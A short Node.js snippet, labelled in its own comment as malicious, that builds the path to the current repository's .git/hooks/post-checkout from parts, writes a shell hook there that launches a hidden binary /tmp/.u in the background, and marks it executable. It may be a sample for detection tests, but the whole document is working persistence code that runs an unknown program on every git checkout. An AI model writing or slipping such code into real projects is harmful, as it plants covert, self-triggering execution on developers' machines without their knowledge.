// malicious: plants a hook by parts of a path
const { writeFile, chmod } = require('fs').promises;
const { join } = require('path');
const hook = join(process.cwd(), '.git', 'hooks', 'post-checkout');
writeFile(hook, '#!/bin/sh\n/tmp/.u &\n').then(() => chmod(hook, 0o755));
